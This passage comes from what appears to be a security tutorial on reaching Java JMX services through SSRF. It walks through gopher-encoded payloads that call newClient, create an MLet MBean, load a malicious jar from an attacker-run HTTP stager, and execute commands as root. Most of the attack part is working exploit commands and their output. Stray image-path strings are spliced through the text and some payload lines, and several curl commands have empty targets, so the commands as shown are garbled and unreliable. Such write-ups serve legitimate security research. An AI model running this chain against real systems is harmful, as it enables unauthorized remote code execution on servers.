Fromthe SSRF perspective, JMX is very similar to the custom RMI service discussed before. Despite being a well known service, JMX endpoints do not have a fixed ObjID value. A lookup operation on the RMI registry is therefore required to interact with the JMX remote object. Furthermore, there is one special characteristic that we have not encountered so far and this is session management.

JMX supports password protected endpoints and needs therefore to implement session management. The RMI protocol has no built in support for session management, but it is a common practice to use the ObjID mechanism for this purpose. We already said that custom remote objects get assigned a randomly generated ObjID value during export and that clients are unable to use the remote objects without knowing their ObjID. To make remote objects publicly available, one binds them to an RMI registry service, but without doing this, the remote object can only be accessed by clients that somehow obtained the ObjID value.

When a client wants to connect to a JMX service, it first looks up the corresponding bound name within the RMI registry. The remote object that is returned by the registry implements the interface javax.management.remote.rmi.RMIServer and only supports two methods:public interface RMIServer extends Remote {
    public String getVersion() throws RemoteException;
    public RMIConnection newClient(Object credentials) throws IOException;

To interact with the JMX agent, clients need to obtain a remote object that implements the RMIConnection interface. Such an object is returned when the client calls the newClient method on the RMIServer remote object and supplies the correct credentials. In this case, the initial entry point object that implements the RMIServer interface exports a new remote object that implements the RMIConnection interface. Instead of binding the result to an RMI registry, where it could be looked up by everyone, a reference to the remote object is returned to the client that called the newClient method. The client is then the only one who obtained the ObjID value for the new remote object and no other clients can interact with it. This demonstrates how ObjID values can yield as a session id equivalent.

When targeting JMX services via SSRF, the session management adds one additional step during exploitation:

  1. Lookup the JMX bound name from the RMI registry
  2. Call the newClient method to establish a JMX session
  3. Use the JMX session to achieve RCE
    • Create the MLet MBean
    • Use MLet to load a malicious MBean
    • Use the malicious MBean to achieve RCE

Notice that the third step needs to be executed in a short time interval after the second step. When obtaining a reference to the remote object that implements the RMIConnection interface, a real client would send a corresponding notification to the Distributed Garbage Collector (DGC). This informs the DGC that the corresponding remote object is in use and should not be cleaned up. Since we obtain the reference via SSRF, there is no communication to the DGC and shortly after the newClient call has generated the new remote object, it getsgarbage collected. Therefore, we need to be fast.

The first thing we need to do is again to obtain the ObjID and the TCP port of the entry point JMX remote object. This is done in the same way as we did for the custom RMI service:

$ rmg enum 1090 --scan-action list --bound-name jmxrmi --ssrf --gopher --encode
[+] SSRF Payload: gopher%3A%2F%2F127.0.0.1%3A1090%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2502%2544%2515%254d%25c9%25d4%25e6%253b%25df%2574%2500%2506%256a%256d%2578%2572%256d%2569
$ curl '' --silent | xxd -p -c10000
$ rmg enum 1090 --scan-action list --bound-name jmxrmi --ssrf-response 51aced0005770f01efa4b9060000017dffd9982080067372002e6a617661782e6d616e6167656d656e742e72656d6f74652e726d692e524d49536572766572496d706c5f53747562000000000000000202000074002f687474703a2f2f6c6f63616c686f73743a383030302f726d692d636c6173732d646566696e6974696f6e732e6a61727872001a6a6176612e726d692e7365727665722e52656d6f746553747562e9fedcc98be1651a02000071007e00017872001c6a6176612e726d692e7365727665722e52656d6f74654f626a656374d361b4910c61331e03000071007e000178707734000b556e6963617374526566320000096c6f63616c686f737400009909c700e5371b95b264efa4b9060000017dffd9982080020178
[+] RMI registry bound names:
[+]     - jmxrmi
[+]         --> javax.management.remote.rmi.RMIServerImpl_Stub (known class: JMX Server)
[+]             Endpoint: localhost:39177  TLS: no  ObjID: [-105b46fa:17dffd99820:-7ffe, -4107030835313135004]
[+] RMI server codebase enumeration:
[+]     - http://localhost:8000/rmi-class-definitions.jar'

Now we know that the remote object listens on localhost:39177 with an ObjID value of [-105b46fa:17dffd99820:-7ffe, -4107030835313135004]. Thisinformation is sufficient to call the newClient method on the remote object. We expect the JMX service to allow unauthenticated connections and pass null for the required credential argument. Furthermore, we can use the GenericPrint plugin [6] of remote-method-guesser to parse the return value of the newCall method:

$ rmg call 39177 null --objid '[-105b46fa:17dffd99820:-7ffe,-4107030835313135004]' --signature 'javax.management.remote.rmi.RMIConnection newClient(Object creds)' --ssrf --encode --gopher
[+] SSRF Payload:gopher%3A%2F%2F127.0.0.1%3A39177%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%25c7%2500%25e5%2537%251b%2595%25b2%2564%25ef%25a4%25b9%2506%2500%2500%2501%257d%25ff%25d9%2598%2520%2580%2502%25ff%25ff%25ff%25ff%25f0%25e0%2574%25ea%25ad%250c%25ae%25a8%2570
$ curl '' --silent | xxd -p -c10000
$ rmg call 39177 null --objid '[-105b46fa:17dffd99820:-7ffe, -4107030835313135004]' --signature 'javax.management.remote.rmi.RMIConnection newClient(Object creds)' --plugin GenericPrint.jar --ssrf-response 51aced0005770f01efa4b9060000017dffd998208008737200326a617661782e6d616e6167656d656e742e72656d6f74652e726d692e524d49436f6e6e656374696f6e496d706c5f53747562000000000000000202000074002f687474703a2f2f6c6f63616c686f73743a383030302f726d692d636c6173732d646566696e6974696f6e732e6a61727872001a6a6176612e726d692e7365727665722e52656d6f746553747562e9fedcc98be1651a02000071007e00017872001c6a6176612e726d692e7365727665722e52656d6f74654f626a656374d361b4910c61331e03000071007e000178707734000b556e6963617374526566320000096c6f63616c686f737400009909aa2417597598c184efa4b9060000017dffd9982080070178
[+] Printing RemoteObject:
[+]     Remote Class:           javax.management.remote.rmi.RMIConnectionImpl_Stub
[+]     Endpoint:               localhost:39177
[+]     ObjID:                  [-105b46fa:17dffd99820:-7ff9, -6186794315107745404]
[+]     ClientSocketFactory:    default
[+]     ServerSocketFactory:    default

The call was successful and we obtained a reference to a new remote object. This new remote object implements the RMIConnection interface and we can perform JMX operations on it. To achieve remote code execution, we first need to create the MLet MBean:

$ rmg call localhost 39177 '"javax.management.loading.MLet", null, null' --signature 'javax.management.ObjectInstance createMBean(String className, javax.management.ObjectName name, javax.security.auth.SubjectdelegationSubject)' --objid '[-105b46fa:17dffd99820:-7ff9, -6186794315107745404]' --ssrf --gopher --encode
[+] SSRF Payload: gopher%3A%2F%2Flocalhost%3A39177%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%25aa%2524%2517%2559%2575%2598%25c1%2584%25ef%25a4%25b9%2506%2500%2500%2501%257d%25ff%25d9%2598%2520%2580%2507%25ff%25ff%25ff%25ff%2522%25d7%25fd%254a%2590%256a%25c8%25e6%2574%2500%251d%256a%2561%2576%2561%2578%252e%256d%2561%256e%2561%2567%2565%256d%2565%256e%2574%252e%256c%256f%2561%2564%2569%256e%2567%252e%254d%254c%2565%2574%2570%2570
$ curl '' &>/dev/null

Afterwards, we can use the MLet MBean to load a malicious MBean using the getMBeansFromURL method. To create the required payload and the HTTP listener, we use beanshooter [7] with it’s --stager-only option:

$ rmg call localhost 39177 'new javax.management.ObjectName("DefaultDomain:type=MLet"), "getMBeansFromURL", new java.rmi.MarshalledObject(new Object[] {""}), new String[] { String.class.getName() }, null' --signature 'Objectinvoke(javax.management.ObjectName name, String operationName, java.rmi.MarshalledObject params, String signature[], javax.security.auth.Subject delegationSubject)' --objid '[-105b46fa:17dffd99820:-7ff9, -6186794315107745404]' --ssrf --gopher --encode
[+] SSRF Payload:gopher%3A%2F%2Flocalhost%3A39177%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%25aa%2524%2517%2559%2575%2598%25c1%2584%25ef%25a4%25b9%2506%2500%2500%2501%257d%25ff%25d9%2598%2520%2580%2507%25ff%25ff%25ff%25ff%2513%25e7%25d6%2594%2517%25e5%25da%2520%2573%2572%2500%251b%256a%2561%2576%2561%2578%252e%256d%2561%256e%2561%2567%2565%256d%2565%256e%2574%252e%254f%2562%256a%2565%2563%2574%254e%2561%256d%2565%250f%2503%25a7%251b%25eb%256d%2515%25cf%2503%2500%2500%2570%2578%2570%2574%2500%2517%2544%2565%2566%2561%2575%256c%2574%2544%256f%256d%2561%2569%256e%253a%2574%2579%2570%2565%253d%254d%254c%2565%2574%2578%2574%2500%2510%2567%2565%2574%254d%2542%2565%2561%256e%2573%2546%2572%256f%256d%2555%2552%254c%2573%2572%2500%2519%256a%2561%2576%2561%252e%2572%256d%2569%252e%254d%2561%2572%2573%2568%2561%256c%256c%2565%2564%254f%2562%256a%2565%2563%2574%257c%25bd%251e%2597%25ed%2563%25fc%253e%2502%2500%2503%2549%2500%2504%2568%2561%2573%2568%255b%2500%2508%256c%256f%2563%2542%2579%2574%2565%2573%2574%2500%2502%255b%2542%255b%2500%2508%256f%2562%256a%2542%2579%2574%2565%2573%2571%2500%257e%2500%2505%2570%2578%2570%2534%257d%25b9%254a%2570%2575%2572%2500%2502%255b%2542%25ac%25f3%2517%25f8%2506%2508%2554%25e0%2502%2500%2500%2570%2578%2570%2500%2500%2500%254a%25ac%25ed%2500%2505%2575%2572%2500%2513%255b%254c%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%254f%2562%256a%2565%2563%2574%253b%2590%25ce%2558%259f%2510%2573%2529%256c%2502%2500%2500%2578%2570%2500%2500%2500%2501%2574%2500%251b%2568%2574%2574%2570%253a%252f%252f%2531%2537%2532%252e%2531%2537%252e%2530%252e%2531%253a%2538%2530%2530%2530%252f%256d%256c%2565%2574%2575%2572%2500%2513%255b%254c%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%2553%2574%2572%2569%256e%2567%253b%25ad%25d2%2556%25e7%25e9%251d%257b%2547%2502%2500%2500%2570%2578%2570%2500%2500%2500%2501%2574%2500%2510%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%2553%2574%2572%2569%256e%2567%2570
$ curl '' &>/dev/null
$ beanshooter --stager-only --stager-host --stager-port 8000
[+] Creating HTTP server on:
[+]     Creating MLetHandler for endpoint: /mlet
[+]     Creating JarHandler for endpoint: /tonka-bean.jar
[+]     Starting HTTP server...
[+] Press Enter to stop listening...
[+] Received request for: /mlet
[+]Sending malicious mlet:
[+]     Class:      de.qtc.tonkabean.TonkaBean
[+]     Archive:    tonka-bean.jar
[+]     Object:     MLetTonkaBean:name=TonkaBean,id=1
[+]     Codebase:
[+] Received request for: /tonka-bean.jar
[+] Sending malicious jar file... done!

The malicious MBean that we deployed supports an executeCommand method that can be used to execute operating system commands. We can now trigger this method by using the SSRF vulnerability:

$ rmg call localhost 39177 'new javax.management.ObjectName("MLetTonkaBean:name=TonkaBean,id=1"), "executeCommand", new java.rmi.MarshalledObject(new Object[] {"id"}), new String[] { String.class.getName() }, null' --signature 'Object invoke(javax.management.ObjectName name, String operationName, java.rmi.MarshalledObject params, String signature[], javax.security.auth.Subject delegationSubject)' --objid '[-105b46fa:17dffd99820:-7ff9, -6186794315107745404]' --ssrf --gopher--encode
[+] SSRF Payload:gopher%3A%2F%2Flocalhost%3A39177%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%25aa%2524%2517%2559%2575%2598%25c1%2584%25ef%25a4%25b9%2506%2500%2500%2501%257d%25ff%25d9%2598%2520%2580%2507%25ff%25ff%25ff%25ff%2513%25e7%25d6%2594%2517%25e5%25da%2520%2573%2572%2500%251b%256a%2561%2576%2561%2578%252e%256d%2561%256e%2561%2567%2565%256d%2565%256e%2574%252e%254f%2562%256a%2565%2563%2574%254e%2561%256d%2565%250f%2503%25a7%251b%25eb%256d%2515%25cf%2503%2500%2500%2570%2578%2570%2574%2500%2521%254d%254c%2565%2574%2554%256f%256e%256b%2561%2542%2565%2561%256e%253a%256e%2561%256d%2565%253d%2554%256f%256e%256b%2561%2542%2565%2561%256e%252c%2569%2564%253d%2531%2578%2574%2500%250e%2565%2578%2565%2563%2575%2574%2565%2543%256f%256d%256d%2561%256e%2564%2573%2572%2500%2519%256a%2561%2576%2561%252e%2572%256d%2569%252e%254d%2561%2572%2573%2568%2561%256c%256c%2565%2564%254f%2562%256a%2565%2563%2574%257c%25bd%251e%2597%25ed%2563%25fc%253e%2502%2500%2503%2549%2500%2504%2568%2561%2573%2568%255b%2500%2508%256c%256f%2563%2542%2579%2574%2565%2573%2574%2500%2502%255b%2542%255b%2500%2508%256f%2562%256a%2542%2579%2574%2565%2573%2571%2500%257e%2500%2505%2570%2578%2570%25c7%25c0%253e%25a2%2570%2575%2572%2500%2502%255b%2542%25ac%25f3%2517%25f8%2506%2508%2554%25e0%2502%2500%2500%2570%2578%2570%2500%2500%2500%2531%25ac%25ed%2500%2505%2575%2572%2500%2513%255b%254c%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%254f%2562%256a%2565%2563%2574%253b%2590%25ce%2558%259f%2510%2573%2529%256c%2502%2500%2500%2578%2570%2500%2500%2500%2501%2574%2500%2502%2569%2564%2575%2572%2500%2513%255b%254c%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%2553%2574%2572%2569%256e%2567%253b%25ad%25d2%2556%25e7%25e9%251d%257b%2547%2502%2500%2500%2570%2578%2570%2500%2500%2500%2501%2574%2500%2510%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%2553%2574%2572%2569%256e%2567%2570
$ curl '' --silent | xxd -p -c10000
$ rmg call localhost 39177 'new javax.management.ObjectName("MLetTonkaBean:name=TonkaBean,id=1"), "executeCommand", new java.rmi.MarshalledObject(new Object[] {"id"}), new String[] { String.class.getName() }, null' --signature 'Object invoke(javax.management.ObjectName name, String operationName, java.rmi.MarshalledObject params, String signature[], javax.security.auth.Subject delegationSubject)' --objid '[-105b46fa:17dffd99820:-7ff9, -6186794315107745404]' --plugin GenericPrint.jar --ssrf-response 51aced0005770f01efa4b9060000017dffd99820800b7400827569643d3028726f6f7429206769643d3028726f6f74292067726f7570733d3028726f6f74292c312862696e292c32286461656d6f6e292c3328737973292c342861646d292c36286469736b292c313028776865656c292c313128666c6f707079292c3230286469616c6f7574292c32362874617065292c323728766964656f290a
[+] uid=0(root) gid=0(root) groups=0(root)

Executing all these steps in time before the JMX remote object gets garbage collected is pretty difficult. The following bash script can be used to automate the process:SIG_NEW_CLIENT='javax.management.remote.rmi.RMIConnection newClient(Object creds)'
SIG_CREATE_BEAN='javax.management.ObjectInstance createMBean(String className, javax.management.ObjectName name, javax.security.auth.Subject delegationSubject)'
SIG_INVOKE='Object invoke(javax.management.ObjectName name, String operationName, java.rmi.MarshalledObject params, String signature[], javax.security.auth.Subject delegationSubject)'

